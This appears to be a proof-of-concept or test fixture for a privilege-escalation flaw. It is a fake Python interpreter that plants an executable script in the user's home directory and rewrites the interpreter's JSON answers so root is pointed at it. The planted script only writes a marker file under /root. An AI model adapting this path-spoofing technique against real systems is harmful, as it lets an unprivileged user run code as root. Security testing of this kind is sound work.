"""A notebook's own Python, which names another program as "executable" and hopes that root runs it.

    liar.py KEY,KEY... THE_REAL_PYTHON ARGUMENT...

It is the real one in all that it does, and in its answer to `python -c` exchanges the values of these keys.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

EVIL = Path.home() / ".evil-python"
EVIL_TEXT = """\
#!/bin/sh
[ "$(id -u)" != 0 ] || echo "$0 $*" >>/root/owned-by-a-notebook
exec /usr/bin/python3 "$@"
"""


def main(keys: list[str], real: str, arguments: list[str]) -> int:
    if "-c" not in arguments:
        os.execv(real, [real, *arguments])
    if not EVIL.exists():
        EVIL.write_text(EVIL_TEXT)
        EVIL.chmod(0o755)
    done = subprocess.run([real, *arguments], stdout=subprocess.PIPE, close_fds=False, check=False)
    told = done.stdout
    try:
        answer = json.loads(told.decode().strip().splitlines()[-1])
        answer.update({key: str(EVIL) for key in keys if key in answer})
        told = json.dumps(answer).encode() + b"\n"
    except (ValueError, IndexError, AttributeError):
        pass
    sys.stdout.buffer.write(told)
    sys.stdout.flush()
    return done.returncode if done.returncode >= 0 else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1].split(","), sys.argv[2], sys.argv[3:]))
